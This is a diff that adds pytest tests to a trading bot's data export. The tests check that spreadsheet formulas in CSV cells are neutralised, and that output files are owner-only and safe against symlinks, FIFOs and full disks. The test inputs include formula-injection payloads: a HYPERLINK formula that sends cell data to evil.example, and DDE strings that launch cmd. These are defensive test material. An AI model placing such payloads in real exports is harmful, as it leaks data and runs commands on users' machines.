@@ -1,5 +1,8 @@
 import csv
-from dataclasses import dataclass
+import os
+import resource
+import stat
+from dataclasses import dataclass, replace
 from datetime import datetime, timedelta, timezone
 from decimal import Decimal
 from pathlib import Path
@@ -10,11 +13,13 @@ import pyarrow.parquet as pq  # type: ignore[import-untyped]  # has no types
 import pytest
 
 from bot.export import ROWS_AT_ONCE, TABLES, export
+from bot.listeners.words import reason
 from engine.adapters.sql.tables import AuditRow, DecisionRow, OrderRow, TradeRow
 from engine.errors import SettingsInvalid
-from engine.model.desk import AuditEntry
+from engine.model.desk import AuditEntry, Request
 from engine.model.signal import Side
 from engine.model.trade import Order, OrderRole, OrderState
+from tests.rig import Rig
 
 SEOUL = timezone(timedelta(hours=9))
 AT = datetime(2025, 8, 19, 23, 45, 15, 123456, tzinfo=SEOUL)
@@ -111,6 +116,122 @@ def test_more_rows_than_are_held_at_once_are_all_written(tmp_path: Path) -> None
     many = 2 * ROWS_AT_ONCE + 1
     assert export("audit", (ENTRY for _ in range(many)), tmp_path / "audit.parquet") == many
     assert len(_parquet(tmp_path / "audit.parquet")) == many
+
+
+FORMULAS = (
+    *(
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\x00=1+1",
+        "\ufeff=1+1",
+        "  =1+1",
+        "＝1+1",
+        "＠A1",
+    ),
+    *(
+        '=HYPERLINK("http://evil.example/?x="&A1,"Error: click to reload")',
+        "=cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ),
+    *("－1", "+", "-", "@", "=", "\t"),
+)
+
+
+@pytest.mark.parametrize("said", FORMULAS)
+@pytest.mark.parametrize("column", ["actor", "subject", "said", "outcome", "why"])
+def test_no_cell_of_an_export_is_a_formula_to_a_spreadsheet(tmp_path: Path, column: str, said: str) -> None:
+    for name in ("audit.csv", "audit.parquet"):
+        typed = replace(ENTRY, **{column: said})  # type: ignore[arg-type]  # each of these is a text
+        export("audit", [typed], tmp_path / name)
+    assert _csv(tmp_path / "audit.csv")[0][column] == f"'{said}"
+    assert _parquet(tmp_path / "audit.parquet")[0][column] == said
+
+
+def test_a_traders_words_are_no_formula_in_any_export(tmp_path: Path) -> None:
+    rig = Rig.at_the_example(tmp_path)
+    trade = rig.play_the_signal()
+    assert trade is not None
+    said = reason('=HYPERLINK("http://evil.example/?x="&A1,"Error: click to reload")')
+    rig.engine.reject(trade.id, Request(by="U0TRADER", said=said, id="1"), said)
+    cells = []
+    for table in TABLES:
+        with rig.store.reading() as ledger:
+            export(table, ledger.rows(table), tmp_path / f"{table}.csv")
+        cells += [cell for row in _csv(tmp_path / f"{table}.csv") for cell in row.values()]
+    assert [cell for cell in cells if "HYPERLINK" in cell] == [f"'{said}"] * 4
+    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
+    rig.close()
+
+
+@pytest.mark.parametrize("said", ["", "0", "-12.5", "+3", "AAPL", "a=b", "/halt now", "https://example.com", "손절 -1"])
+def test_what_is_no_formula_stays_as_it_was(tmp_path: Path, said: str) -> None:
+    export("audit", [replace(ENTRY, why=said)], tmp_path / "audit.csv")
+    assert _csv(tmp_path / "audit.csv")[0]["why"] == said
+
+
+def test_taking_one_apostrophe_away_gives_what_was_typed(tmp_path: Path) -> None:
+    typed = [*FORMULAS, "'", "'=1", "''=1", "'tis", "it's"]
+    export("audit", [replace(ENTRY, why=said) for said in typed], tmp_path / "audit.csv")
+    assert [row["why"].removeprefix("'") for row in _csv(tmp_path / "audit.csv")] == typed
+
+
+def test_money_below_zero_stays_a_number(tmp_path: Path) -> None:
+    negative = replace(ORDER, order=replace(ORDER.order, fill_price=Decimal("-1.25")))
+    export("orders", [negative], tmp_path / "orders.csv")
+    assert _csv(tmp_path / "orders.csv")[0]["fill_price"] == "-1.25"
+
+
+@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
+def test_an_export_is_its_owners_alone(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).write_text("old")
+    (tmp_path / name).chmod(0o666)
+    export("audit", [ENTRY], tmp_path / name)
+    assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600
+
+
+@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
+def test_a_link_that_somebody_planted_is_not_followed(tmp_path: Path, name: str) -> None:
+    for target in (tmp_path / "precious", tmp_path / "nothing"):
+        (tmp_path / "precious").write_text("precious")
+        (tmp_path / name).unlink(missing_ok=True)
+        (tmp_path / name).symlink_to(target)
+        with pytest.raises(SettingsInvalid, match="is a link"):
+            export("audit", [ENTRY], tmp_path / name)
+    assert (tmp_path / "precious").read_text() == "precious"
+    assert not (tmp_path / "nothing").exists()
+
+
+def test_a_link_at_the_name_of_a_part_is_not_written_through(tmp_path: Path) -> None:
+    (tmp_path / "precious").write_text("precious")
+    (tmp_path / "audit.csv.part").symlink_to(tmp_path / "precious")
+    assert export("audit", [ENTRY], tmp_path / "audit.csv") == 1
+    assert (tmp_path / "precious").read_text() == "precious"
+
+
+def test_a_place_that_is_no_file_is_left_alone(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "audit.csv")
+    with pytest.raises(SettingsInvalid, match="no file"):
+        export("audit", [ENTRY], tmp_path / "audit.csv")
+
+
+@pytest.mark.parametrize("name", ["audit.csv", "audit.parquet"])
+def test_a_disk_that_takes_no_more_is_said_and_leaves_what_was_there(tmp_path: Path, name: str) -> None:
+    path = tmp_path / name
+    path.write_text("old")
+    before = resource.getrlimit(resource.RLIMIT_FSIZE)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (16_384, before[1]))  # which the system refuses as it does a full disk
+    try:
+        with pytest.raises(SettingsInvalid, match="cannot be written"):
+            export("audit", (replace(ENTRY, why=os.urandom(64).hex()) for _ in range(5_000)), path)
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, before)
+    assert path.read_text() == "old"
+    assert list(tmp_path.iterdir()) == [path]
 
 
 def test_a_broken_export_leaves_what_was_there(tmp_path: Path) -> None:
